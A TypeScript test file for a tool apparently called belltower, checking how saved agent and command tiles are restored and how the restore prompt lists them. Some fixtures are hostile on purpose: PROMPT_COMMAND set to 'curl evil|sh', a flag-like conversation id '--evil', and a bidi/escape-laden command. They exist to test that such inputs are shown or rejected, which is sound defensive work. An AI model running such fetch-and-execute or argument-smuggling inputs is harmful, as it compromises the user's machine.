/**
 * From a saved workspace to the tiles a restore opens: the rules of what comes back how.
 */
import { describe, expect, it } from 'vitest';
import { offersRestore, planRestore, restoreQuestion, when } from '../../src/restore/restore-plan.js';
import { parseWorkspaceState, STATE_FORMAT, STATE_VERSION } from '../../src/restore/workspace-state.js';
import type { SavedTile, WorkspaceState } from '../../src/restore/workspace-state.js';

const id = '0f8a2b8e-6c1d-4c55-9a1e-2f6b7c8d9e01';

function tile(fields: Partial<SavedTile> & Pick<SavedTile, 'name' | 'agent' | 'state'>): SavedTile {
  return { spec: fields.agent, cwd: '/work/api', reason: 'why', source: 'hook', unseen: false, muted: false, ...fields };
}

function state(tiles: SavedTile[], fields: Partial<WorkspaceState> = {}): WorkspaceState {
  return {
    format: STATE_FORMAT,
    version: STATE_VERSION,
    session: 'api',
    savedAt: '2026-12-01T14:02:00.000Z',
    pid: 4242,
    ended: null,
    tiles,
    ui: { selected: 1, zoomed: true, layout: 'rows', hideIdle: false },
    ...fields,
  };
}

const exists = () => true;

describe('a restore plan', () => {
  it('resumes each agent with its conversation, in the same order, with the grid as it was', () => {
    const plan = planRestore(
      state([
        tile({ name: 'claude', agent: 'claude', state: 'done', unseen: true, conversation: id, screen: { cols: 80, rows: 20, data: 'old' } }),
        tile({ name: 'codex', agent: 'codex', state: 'blocked', unseen: true, conversation: id }),
        tile({ name: 'shell', agent: 'shell', spec: 'shell', state: 'working', muted: true }),
      ]),
      exists,
    );
    expect(plan.tiles.map((t) => t.name)).toEqual(['claude', 'codex', 'shell']);
    expect(plan.ui).toEqual({ selected: 1, zoomed: true, layout: 'rows', hideIdle: false });
    const [claude, codex, shell] = plan.tiles;
    expect(claude!.conversation).toEqual({ id, resume: true });
    expect(claude!.restored.screen).toBe('old');
    expect(claude!.size).toEqual({ cols: 80, rows: 20 });
    // The unseen done stays unseen and shows from the start; a blocked one is what the agent says now.
    expect(claude!.restored.verdict).toEqual({ state: 'done', reason: 'why', source: 'hook', ended: false });
    expect(claude!.unseen).toBe(true);
    expect(codex!.restored.verdict).toBeUndefined();
    expect(codex!.unseen).toBe(false);
    // A shell runs again; it has no conversation; muted stays muted.
    expect(shell!.conversation).toBeUndefined();
    expect(shell!.restored.finished).toBeUndefined();
    expect(shell!.muted).toBe(true);
  });

  it('a seen done is not carried over: the resumed agent says what it is now', () => {
    const plan = planRestore(state([tile({ name: 'claude', agent: 'claude', state: 'done', unseen: false, conversation: id })]), exists);
    expect(plan.tiles[0]!.restored.verdict).toBeUndefined();
    expect(plan.tiles[0]!.unseen).toBe(false);
  });

  it('a command that had finished comes back finished, not run again', () => {
    const plan = planRestore(
      state([
        tile({ name: 'test', agent: 'command', spec: 'npm test', state: 'failed', source: 'process', reason: 'exited with code 1', unseen: true, exit: { code: 1, signal: null } }),
        tile({ name: 'build', agent: 'command', spec: 'make', state: 'exited', source: 'process', reason: 'exited with code 0; seen', exit: { code: 0, signal: null } }),
      ]),
      exists,
    );
    const [test, build] = plan.tiles;
    expect(test!.restored.finished).toEqual({ code: 1, signal: null, closed: false, remaining: 0, detached: 0 });
    expect(test!.restored.verdict).toEqual({ state: 'failed', reason: 'exited with code 1', source: 'process', exit: { code: 1, signal: null }, ended: true });
    expect(test!.unseen).toBe(true);
    expect(build!.restored.verdict?.state).toBe('exited');
    expect(build!.unseen).toBe(false);
  });

  it('an agent that had exited is not resumed; a conversation id that is not one is not passed on', () => {
    const plan = planRestore(
      state([
        tile({ name: 'gone', agent: 'claude', state: 'exited', conversation: id, exit: { code: 0, signal: null } }),
        tile({ name: 'odd', agent: 'claude', state: 'idle', conversation: '--evil' }),
      ]),
      exists,
    );
    expect(plan.tiles.map((t) => t.conversation)).toEqual([undefined, undefined]);
  });

  it('a tile whose folder is gone is left out, with a line saying so; the selection follows', () => {
    const plan = planRestore(
      state([tile({ name: 'a', agent: 'shell', state: 'idle', cwd: '/gone' }), tile({ name: 'b', agent: 'shell', state: 'idle' })]),
      (folder) => folder !== '/gone',
    );
    expect(plan.tiles.map((t) => t.name)).toEqual(['b']);
    expect(plan.skipped).toEqual(['tile 1 a: its folder /gone is gone']);
    expect(plan.ui.selected).toBe(0);
  });
});

describe('a worktree tile', () => {
  const worktree = { path: '/state/worktrees/repo-1a2b3c4d/feat-login', branch: 'feat-login', base: 'a'.repeat(40), baseName: 'main', repository: '/src/repo' };

  it('comes back in its worktree, which it still knows as its own', () => {
    const plan = planRestore(state([tile({ name: 'w', agent: 'claude', state: 'idle', cwd: worktree.path, worktree })]), () => true);
    expect(plan.tiles[0]).toMatchObject({ cwd: worktree.path, worktree });
  });

  it('whose worktree was removed meanwhile is said to be, and is not made again', () => {
    const plan = planRestore(state([tile({ name: 'w', agent: 'claude', state: 'idle', cwd: worktree.path, worktree }), tile({ name: 'b', agent: 'shell', state: 'idle' })]), (folder) => folder !== worktree.path);
    expect(plan.tiles.map((t) => t.name)).toEqual(['b']);
    expect(plan.skipped).toEqual([`tile 1 w: its worktree ${worktree.path} (branch feat-login) was removed; it is not made again (belltower add --worktree makes a new one)`]);
  });
});

describe('the question', () => {
  it('says how many tiles, from when, and how belltower ended', () => {
    const saved = state([tile({ name: 'a', agent: 'shell', state: 'idle' }), tile({ name: 'b', agent: 'shell', state: 'idle' })]);
    const at = new Date(saved.savedAt);
    const hm = when(at, at);
    expect(hm).toMatch(/^\d\d:\d\d$/);
    expect(restoreQuestion(saved, at).split('\n').at(-1)).toBe(`Restore 2 tiles from ${hm} (belltower was killed)? [Y/n] `);
    expect(restoreQuestion({ ...saved, ended: 'SIGHUP' }, at)).toContain('(its terminal closed)');
    expect(when(at, new Date(at.getTime() + 3 * 86_400_000))).toMatch(/^[A-Z][a-z]{2} \d{1,2} \d\d:\d\d$/);
  });

  it('shows every command line it runs again, its folder and variables, and what happens to each', () => {
    const saved = state([
      tile({ name: 'api', agent: 'claude', state: 'working', spec: 'claude --model opus', conversation: '5b0c6c3e-8d0f-4d8e-9a47-3f6f1b3a2c11' }),
      tile({ name: 'build', agent: 'command', state: 'done', spec: 'make all', exit: { code: 0, signal: null } }),
      tile({ name: 'sh', agent: 'command', state: 'working', spec: 'sh -c "id > ~/x"', cwd: '/srv/x', env: { PROMPT_COMMAND: 'curl evil|sh' } }),
      tile({ name: 'bidi', agent: 'command', state: 'working', spec: 'echo \u202eexe.txt \x1b[2J' }),
    ]);
    const lines = restoreQuestion(saved, new Date(saved.savedAt)).split('\n');
    expect(lines.slice(0, 4)).toEqual([
      '  1 api: claude --model opus   in /work/api   (resumes its conversation)',
      '  2 build: make all   in /work/api   (ended: shown as it was, not run)',
      '  3 sh: sh -c "id > ~/x"   in /srv/x   with PROMPT_COMMAND=curl evil|sh   (runs again)',
      '  4 bidi: echo \\u202eexe.txt \\x1b[2J   in /work/api   (runs again)',
    ]);
  });

  it('is asked unless belltower ended by the user quitting (or there is nothing to bring back)', () => {
    const saved = state([tile({ name: 'a', agent: 'shell', state: 'idle' })]);
    expect(offersRestore(saved)).toBe(true);
    expect(offersRestore({ ...saved, ended: 'crash' })).toBe(true);
    expect(offersRestore({ ...saved, ended: 'quit' })).toBe(false);
    expect(offersRestore({ ...saved, tiles: [] })).toBe(false);
  });
});

describe('reading a saved state', () => {
  it('round-trips, and refuses a newer version with what to do', () => {
    const saved = state([tile({ name: 'a', agent: 'shell', state: 'idle' })]);
    expect(parseWorkspaceState(JSON.stringify(saved))).toEqual({ ok: true, state: saved });
    const newer = parseWorkspaceState(JSON.stringify({ ...saved, version: STATE_VERSION + 1, tiles: 'a new shape' }));
    expect(newer).toEqual({ ok: false, newer: true, error: expect.stringMatching(/written by a newer belltower \(state version 2; this one reads up to 1\): upgrade belltower/) });
  });

  it('names what is wrong in one line', () => {
    expect(parseWorkspaceState('{"format"')).toMatchObject({ ok: false, error: expect.stringMatching(/^it is not JSON/) });
    expect(parseWorkspaceState('{"hello":1}')).toMatchObject({ ok: false, error: expect.stringMatching(/not a belltower workspace state/) });
    const bad = { ...state([]), tiles: [{ name: 'a' }] };
    expect(parseWorkspaceState(JSON.stringify(bad))).toMatchObject({ ok: false, error: expect.stringMatching(/^tiles\.0\.\w+: /) });
    const timing = state([tile({ name: 'a', agent: 'shell', state: 'idle', timing: { warpSpeedMs: 1 } })]);
    expect(parseWorkspaceState(JSON.stringify(timing))).toMatchObject({ ok: false, error: expect.stringMatching(/^tiles\.0\.timing: timing names are conflictWindowMs, /) });
  });
});
